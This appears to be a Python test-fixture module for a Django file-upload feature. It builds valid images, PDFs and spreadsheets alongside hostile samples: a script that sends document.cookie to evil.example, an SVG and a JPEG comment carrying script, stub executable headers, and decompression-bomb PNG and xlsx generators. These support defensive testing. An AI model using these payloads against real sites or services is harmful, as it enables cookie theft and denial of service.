"""Files for upload tests, good and hostile, all built in memory.

The two large ones (a 40,000 × 40,000 PNG, an xlsx inflating to hundreds of MB) are real, valid files
built without allocating their content: their deflate streams repeat one block compressed once.
"""

import io
import struct
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook
from PIL import ExifTags, Image

MB = 1024 * 1024


def stored_paths(root) -> list[str]:
    """Every file under ``root`` (a MEDIA_ROOT), relative to it."""
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()) if root.exists() else []


def upload(name: str, data: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)


# --- images --------------------------------------------------------------------------------------------


def image_bytes(fmt: str = "PNG", size=(64, 48), mode: str = "RGB", color=(10, 120, 200), **save) -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size, color).save(buffer, fmt, **save)
    return buffer.getvalue()


def two_tone(size=(600, 300)) -> Image.Image:
    """Left half red, right half blue: after a rotation one can tell where the left half went."""
    width, height = size
    image = Image.new("RGB", size, (220, 20, 20))
    image.paste((20, 20, 220), (width // 2, 0, width, height))
    return image


def camera_jpeg(*, orientation: int = 6, size=(600, 300)) -> bytes:
    """A phone photo: EXIF with the camera, an orientation tag and the GPS position, and a comment."""
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Make] = "TestCam"
    exif.get_ifd(ExifTags.IFD.GPSInfo).update(
        {
            ExifTags.GPS.GPSLatitudeRef: "N",
            ExifTags.GPS.GPSLatitude: (30.0, 35.0, 12.5),
            ExifTags.GPS.GPSLongitudeRef: "E",
            ExifTags.GPS.GPSLongitude: (114.0, 18.0, 0.0),
        }
    )
    buffer = io.BytesIO()
    two_tone(size).save(buffer, "JPEG", quality=95, exif=exif, comment=b"<script>alert(1)</script>")
    return buffer.getvalue()


def _repeated_deflate(block: bytes, times: int) -> bytes:
    """A raw deflate stream of ``block * times``: after a full flush the same input compresses to the
    same bytes, so the block is compressed once and its output repeated."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    compressed = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    return compressed * times + compressor.flush()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def huge_png(width: int, height: int, rows_per_block: int = 500) -> bytes:
    """A valid black 1-bit PNG of any size, built in a few hundred KB without allocating its pixels."""
    assert height % rows_per_block == 0
    block = (b"\x00" + b"\x00" * ((width + 7) // 8)) * rows_per_block
    times = height // rows_per_block
    adler = 1
    for _ in range(times):
        adler = zlib.adler32(block, adler)
    idat = b"\x78\xda" + _repeated_deflate(block, times) + struct.pack(">I", adler)
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1 bit, greyscale
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


# --- hostile bytes --------------------------------------------------------------------------------------

HTML = (
    b"<!DOCTYPE html><html><body><script>document.location='https://evil.example/'+document.cookie</script>"
)
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script></svg>"
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
PE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 44
    + b"\x80\x00\x00\x00"
    + b"PE\x00\x00"
)


# --- PDF -----------------------------------------------------------------------------------------------


def pdf_bytes() -> bytes:
    """A minimal valid one-page PDF with a correct cross-reference table."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return out


# --- spreadsheets ---------------------------------------------------------------------------------------


def xlsx_bytes(rows=(("姓名", "单位"), ("张三", "襄阳市总工会"))) -> bytes:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(list(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _zip(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip of already-deflated members: (name, raw deflate data, crc32, inflated size)."""
    out, directory = b"", b""
    for name, data, crc, size in members:
        encoded = name.encode()
        directory += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(data), size, len(encoded),
            0, 0, 0, 0, 0, len(out),
        ) + encoded  # fmt: skip
        out += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(data), size, len(encoded), 0
        ) + encoded + data  # fmt: skip
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(directory), len(out), 0)
    return out + directory + end


def _member(name: str, content: bytes) -> tuple[str, bytes, int, int]:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return name, compressor.compress(content) + compressor.flush(), zlib.crc32(content), len(content)


def xlsx_bomb(inflated_mb: int = 300) -> bytes:
    """A workbook whose sheet inflates to ``inflated_mb`` MB of XML (sizes declared truthfully), in ~1 MB."""
    block = b"<row><c><v>0</v></c></row>" * (MB // 26) + b" " * (MB % 26)
    crc = 0
    for _ in range(inflated_mb):
        crc = zlib.crc32(block, crc)
    return _zip(
        [
            _member("[Content_Types].xml", b'<?xml version="1.0"?><Types/>'),
            _member("xl/workbook.xml", b'<?xml version="1.0"?><workbook/>'),
            (
                "xl/worksheets/sheet1.xml",
                _repeated_deflate(block, inflated_mb),
                crc,
                len(block) * inflated_mb,
            ),
        ]
    )
